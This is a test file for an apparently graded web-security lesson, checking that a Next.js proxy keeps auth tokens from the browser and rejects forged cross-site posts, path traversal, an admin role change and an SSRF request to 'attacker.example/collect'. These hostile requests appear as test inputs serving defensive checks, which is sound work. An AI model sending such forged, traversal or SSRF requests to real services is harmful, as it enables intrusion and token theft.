import meta from "@/content/lessons/tokens-and-the-browser/meta";
import type { PageContext } from "../fixtures/check";
import { describeChecks, inPage } from "../fixtures/checks";
import type { Lab } from "../fixtures/lab";
import { addByScript, runScript, worksElsewhere } from "../fixtures/script";
import { expect } from "../fixtures/test";
import { seededUsers } from "../fixtures/users";

const { ada, grace } = seededUsers;
const MINUTE = 60;

/** What a browser says of a request that the app's own script makes. */
const ours = { "Sec-Fetch-Site": "same-origin", "X-Notes-Client": "1" };

describeChecks(meta, {
  "rightful-user": inPage(async (given) => {
    const { page, lab } = given;
    await openLive(given);
    await expect(page.getByText("A bug, found")).toBeVisible();
    expect(await addByScript(given, "By script"), "the page says").toBe("Added “By script”.");
    expect((await lab.state()).notes.map(({ title }) => title)).toContain("By script");
  }),

  "after-expiry": inPage(async (given) => {
    const { lab, expectFailures } = given;
    expectFailures(/^401 POST \S+\/mock-backend\/v1\/notes/);
    await openLive(given);
    await lab.advance(16 * MINUTE);
    expect(await addByScript(given, "Later"), "sixteen minutes later, the page says").toBe("Added “Later”.");
  }),

  nobody: async ({ visitor }) => {
    for (const address of ["/api/backend/notes", "/api/backend/token", "/api/backend?url=/v1/notes"]) {
      const answer = await visitor.request.get(address, { headers: ours });
      expect([401, 404], `${address} answers nobody`).toContain(answer.status());
    }
  },

  "session-json": async ({ visitor }) => {
    await visitor.signInByRequest(grace);
    const text = await (await visitor.request.get("/api/auth/session")).text();
    expect(tokensIn(text), "in the session, a browser reads").toBe("no token");
    expect(text).toContain("Grace");
  },

  received: inPage(async ({ page, visitor, lab }) => {
    await visitor.signInByRequest(grace);
    const { accessToken, refreshToken } = await lab.tokens();
    const received: Promise<{ pathname: string; holdsIt: boolean }>[] = [];
    page.on("response", (response) => {
      const { pathname } = new URL(response.url());
      const holdsIt = (text: string) =>
        [accessToken, refreshToken].some((token) => token && text.includes(token));
      // A redirect has no body to read.
      if (response.status() >= 300 && response.status() < 400) return;
      received.push(response.text().then((text) => ({ pathname, holdsIt: holdsIt(text) })));
    });
    await page.goto("/notes/live");
    await expect(page.getByText("A bug, found")).toBeVisible();
    const read = await Promise.all(received);
    expect(read.map(({ pathname }) => pathname)).toContain("/notes/live");
    expect(read.filter(({ pathname }) => pathname.endsWith(".js")).length, "scripts").toBeGreaterThan(0);
    const where = new Set(read.filter(({ holdsIt }) => holdsIt).map(({ pathname }) => pathname));
    expect([...where].sort().join(" and ") || "nowhere", "what the browser received holds a token in").toBe(
      "nowhere",
    );
  }),

  riding: inPage(async (given) => {
    const { visitor } = given;
    await visitor.signInByRequest(grace);
    const { notes } = await runScript(given);
    expect(notes, "while the page is open, its script reads").toContain("A bug, found");
  }),

  "stolen-elsewhere": inPage(async (given) => {
    const { visitor, lab } = given;
    await visitor.signInByRequest(grace);
    const loot = await runScript(given);
    await lab.advance(10 * MINUTE);
    expect(
      await worksElsewhere(given, loot),
      "ten minutes after the page was closed, the thief can use",
    ).toBe("nothing");
  }),

  "other-site": async ({ visitor, lab }) => {
    await visitor.signInByRequest(grace);
    const others: Record<string, string>[] = [
      { "Sec-Fetch-Site": "cross-site", Origin: "https://attacker.example" },
      // A page on a sibling host is the same site: SameSite cookies come along.
      { "Sec-Fetch-Site": "same-site", Origin: "https://forgotten.blog.example" },
      { Origin: "https://attacker.example" },
      // A browser too old for either header, as Firefox was for forms until 2020.
      {},
    ];
    for (const headers of others) {
      for (const address of ["/api/backend/notes", "/api/backend?url=/v1/notes"]) {
        const data = JSON.stringify({ title: "Not hers", text: "" });
        // A form can send this type, so that no preflight is asked for.
        await visitor.request.post(address, { data, headers: { "Content-Type": "text/plain", ...headers } });
      }
    }
    const forged = (await lab.state()).notes.some(({ title }) => title === "Not hers");
    expect(forged ? "a note" : "nothing", "another site's page writes").toBe("nothing");
  },

  "other-paths": async ({ visitor, lab }) => {
    await visitor.signInByRequest(ada);
    const start = await lab.lastSeq();
    const asked = ["/v1/admin/users", "/v1/me", "/lab/state", "/v1/notes/../admin/users"];
    for (const path of asked) {
      for (const address of [`/api/backend${path}`, `/api/backend?url=${encodeURIComponent(path)}`]) {
        await visitor.request.get(address, { headers: ours });
      }
    }
    const data = { role: "admin" };
    for (const address of [
      "/api/backend/v1/admin/users/user-linus",
      "/api/backend?url=/v1/admin/users/user-linus",
    ]) {
      await visitor.request.patch(address, { data, headers: ours });
    }
    await visitor.request.delete("/api/backend/notes/..%2Fadmin", { headers: ours });
    expect(await askedOfBackend(lab, start), "at the backend, this arrives").toBe("nothing");
    const linus = (await lab.state()).users.find(({ id }) => id === "user-linus");
    expect(linus?.role, "Linus is").toBe("member");
  },

  "other-hosts": async ({ visitor, lab }) => {
    await visitor.signInByRequest(grace);
    const collect = encodeURIComponent("https://attacker.example/collect");
    for (const address of [`/api/backend?url=${collect}`, "/api/backend/https:/attacker.example/collect"]) {
      await visitor.request.get(address, { headers: ours });
    }
    const { attacker } = (await lab.state()).holders;
    const holds = Object.entries(attacker).filter(([, generation]) => generation !== null);
    expect(
      holds.map(([kind]) => kind).join(" and ") || "nothing",
      "the app's server sends the attacker",
    ).toBe("nothing");
  },

  "own-words": async ({ visitor, lab }) => {
    await visitor.signInByRequest(grace);
    await lab.suspend(grace.email);
    for (const address of ["/api/backend/notes", "/api/backend?url=/v1/notes"]) {
      const answer = await visitor.request.get(address, { headers: ours });
      const theirs = answer.headers()["www-authenticate"] ?? "nothing";
      expect(theirs, "of the backend's refusal, the browser reads").toBe("nothing");
      expect(answer.ok()).toBe(false);
    }
  },
});

/** The page that fetches its notes itself, signed in as Grace and done with its first fetch. */
async function openLive({ visitor, page }: PageContext): Promise<void> {
  await visitor.signInByRequest(grace);
  await page.goto("/notes/live");
  await expect(page.getByText("A bug, found")).toBeVisible();
}

function tokensIn(text: string): string {
  return /eyJ[\w-]+\.eyJ/.test(text) ? "an access token" : "no token";
}

/** What the Next server asked the backend for after an event. */
async function askedOfBackend(lab: Lab, after: number): Promise<string> {
  const asked = (await lab.events(after)).filter(
    ({ type, from, to }) => type === "request" && from === "next" && to === "backend",
  );
  return asked.map(({ name }) => name).join(", ") || "nothing";
}
